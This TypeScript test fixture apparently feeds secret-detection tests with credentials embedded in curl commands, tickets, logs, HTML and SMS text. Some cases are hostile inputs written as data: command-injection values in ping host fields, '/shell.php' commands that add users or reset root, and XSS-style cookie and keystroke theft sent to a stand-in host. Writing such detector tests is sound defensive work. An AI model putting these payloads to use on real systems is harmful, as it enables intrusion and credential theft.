import { type SecretCase, secrets } from './case.ts';
import { get, postForm, postJson, postText } from './requests.ts';
import { base64 } from './spellings.ts';
import { Values } from './values.ts';

const v = new Values(108);
const CLASS = 'free text';

export const freeText: readonly SecretCase[] = [
  ...secrets(CLASS, 'https://curl.se/docs/manpage.html', [
    [
      'curl with a Bearer',
      v.url(40),
      (s) =>
        postJson('/tickets', { text: `curl -H 'Authorization: Bearer ${s}' https://api.shop.example/me` }),
    ],
    [
      'curl with double quotes',
      v.url(38),
      (s) => postText('/paste', `curl -sS -H "Authorization: Bearer ${s}" https://api.shop.example/me`),
    ],
    ['curl -u', 'Sherbet-17', (s) => postText('/paste', `curl -u ann:${s} https://api.shop.example/me`)],
    [
      'curl --user',
      v.text(16),
      (s) => postJson('/tickets', { text: `curl --user 'ann:${s}' -X POST https://api.shop.example` }),
    ],
    ['curl -b', v.hex(32), (s) => postText('/paste', `curl -b 'JSESSIONID=${s}' https://shop.example/cart`)],
    [
      'curl form data',
      'Cinnamon!3',
      (s) => postText('/paste', `curl -d 'user=ann&password=${s}' https://shop.example/login`),
    ],
    [
      'curl JSON data',
      v.text(18),
      (s) =>
        postText('/paste', `curl --data-raw '{"user":"ann","password":"${s}"}' https://shop.example/login`),
    ],
    [
      'wget',
      'Marzipan_8',
      (s) => postText('/paste', `wget --user=ann --password=${s} https://files.shop.example/a.zip`),
    ],
    [
      'curl with an API key',
      v.text(32),
      (s) => postText('/paste', `curl https://api.shop.example -H 'X-Api-Key: ${s}'`),
    ],
  ]),
  ...secrets(CLASS, 'https://httpie.io/docs/cli/authentication', [
    ['httpie -a', 'Nougat-55', (s) => postText('/paste', `http -a ann:${s} shop.example/api`)],
  ]),
  ...secrets(CLASS, 'https://dev.mysql.com/doc/refman/8.4/en/command-line-options.html', [
    [
      'mysql --password',
      'Truffle+2',
      (s) => postForm('/ping', { host: `127.0.0.1; mysql -u root --password=${s} -e 'show tables'` }),
    ],
    [
      'mysql -p joined',
      'Praline66',
      (s) => postForm('/ping', { host: `127.0.0.1; mysqldump -uroot -p${s} shop` }),
    ],
    ['PGPASSWORD', v.text(14), (s) => postText('/paste', `PGPASSWORD=${s} psql -h db -U app shop`)],
    ['sshpass', 'Fondant.9', (s) => postText('/paste', `sshpass -p '${s}' ssh root@203.0.113.5`)],
    ['redis-cli -a', v.text(20), (s) => postText('/paste', `redis-cli -h cache -a ${s} ping`)],
    ['docker login -p', 'Toffee?88', (s) => postText('/paste', `docker login -u ann -p ${s} r.shop.example`)],
    ['net use', 'Licorice#4', (s) => postText('/paste', `net use z: \\\\files\\share /user:SHOP\\ann ${s}`)],
    ['net user', 'Gumdrop-7', (s) => postForm('/shell.php', { cmd: `net user support ${s} /add` })],
    ['chpasswd', 'Bonbon!41', (s) => postForm('/shell.php', { cmd: `echo 'root:${s}' | chpasswd` })],
    [
      'PowerShell secure string',
      'Caramel_5',
      (s) => postText('/paste', `$p = ConvertTo-SecureString "${s}" -AsPlainText -Force`),
    ],
  ]),
  ...secrets(CLASS, 'https://cheatsheetseries.owasp.org/cheatsheets/Logging_Cheat_Sheet.html', [
    [
      'sentence in a ticket',
      'Pudding-2020',
      (s) =>
        postForm('/support', { subject: 'Login', body: `Hi, my password is ${s} and it does not work.` }),
    ],
    [
      'sentence with quotes',
      'Waffle iron',
      (s) => postJson('/chat', { text: `The new password is "${s}", please change it.` }),
    ],
    ['login / password', v.text(12), (s) => postText('/contact', `Please use login / password: ann / ${s}`)],
    [
      'user and pass lines',
      'Crumble_31',
      (s) => postForm('/contact', { message: `URL: https://shop.example/admin\nUser: ann\nPass: ${s}` }),
    ],
    ['pw with an arrow', 'Strudel=8', (s) => postJson('/chat', { text: `id: ann, pw -> ${s}` })],
    [
      'id/pw of a Korean mail',
      'bibim99!',
      (s) => postJson('/chat', { text: `테스트 계정 id: ann / pw: ${s} 입니다` }),
    ],
    [
      'password in German prose',
      'Zimtstern5',
      (s) => postJson('/chat', { text: `Das Passwort lautet ${s}, bitte ändern.` }),
    ],
    [
      'code of an SMS',
      '604718',
      (s) =>
        postJson('/sms/inbound', { from: '+8210', text: `Your verification code is ${s}. Do not share it.` }),
    ],
    [
      'code first in an SMS',
      '395017',
      (s) => postJson('/sms/inbound', { from: '+1555', text: `${s} is your Shop verification code.` }),
    ],
    [
      'code of a Korean SMS',
      '271806',
      (s) => postJson('/sms/inbound', { from: '1588', text: `[쇼핑] 인증번호 [${s}]를 입력해 주세요.` }),
    ],
    [
      'log line of an application',
      v.text(16),
      (s) =>
        postJson('/ingest', {
          level: 'debug',
          message: `login attempt user=ann password=${s} ip=203.0.113.8`,
        }),
    ],
    [
      'Rails log line',
      'Eclair-12',
      (s) => postText('/ingest', `Parameters: {"user"=>"ann", "password"=>"${s}"}`),
    ],
    [
      'exception text',
      v.text(14),
      (s) => postJson('/errors', { exception: `Access denied for user 'app'@'db' (using password: '${s}')` }),
    ],
    [
      'SQL in an error',
      'Macaron.77',
      (s) =>
        postJson('/errors', { sql: `SELECT id FROM users WHERE name='ann' AND password='${s}' LIMIT 1` }),
    ],
    [
      'header dump',
      v.url(43),
      (s) =>
        postText(
          '/errors',
          `GET /me HTTP/1.1\nHost: api.shop.example\nAuthorization: Bearer ${s}\nAccept: */*\n`,
        ),
    ],
    [
      'Basic in a header dump',
      'Brioche#6',
      (s) => postText('/errors', `GET /me HTTP/1.1\nAuthorization: Basic ${base64(`ann:${s}`)}\n`),
      (s) => ({ also: [base64(`ann:${s}`)] }),
    ],
    [
      'cookie in a header dump',
      v.hex(40),
      (s) => postText('/errors', `Request headers:\nCookie: sessionid=${s}; theme=dark\n`),
    ],
    [
      'redirect in a trace',
      v.url(24),
      (s) => postJson('/ingest', { message: `302 Location: https://shop.example/cb?code=${s}&state=9` }),
    ],
    [
      'Markdown',
      v.text(24),
      (s) =>
        postJson('/wiki/save', { text: `## Access\n\n* **API key**: \`${s}\`\n* Host: api.shop.example\n` }),
    ],
    [
      'HTML hidden field',
      v.text(40),
      (s) => postForm('/preview', { html: `<input type="hidden" name="csrf_token" value="${s}">` }),
    ],
    [
      'HTML password field',
      'Churros-20',
      (s) => postForm('/preview', { html: `<input name='pass' type='password' value='${s}'>` }),
    ],
    [
      'HTML meta',
      v.base64(48),
      (s) => postForm('/preview', { html: `<meta name="csrf-token" content="${s}" />` }),
    ],
  ]),
  ...secrets(CLASS, 'https://owasp.org/www-community/attacks/xss/', [
    [
      'stolen cookie in a query',
      v.hex(32),
      (s) => get(`/c.gif?c=${encodeURIComponent(`PHPSESSID=${s}; lang=ko`)}`, { Host: 'collect.example' }),
    ],
    [
      'stolen cookie in a path',
      v.lower(26),
      (s) => get(`/steal/ci_session=${s}`, { Host: 'collect.example' }),
    ],
    [
      'stolen local storage',
      v.jwt({ sub: 'ann' }),
      (s) => postText('/x', `localStorage: {"id_token":"${s}"}`),
    ],
    [
      'keystrokes',
      'Tiramisu!9',
      (s) => postJson('/k', { url: 'https://shop.example/login', input: { type: 'password', value: s } }),
    ],
  ]),
];
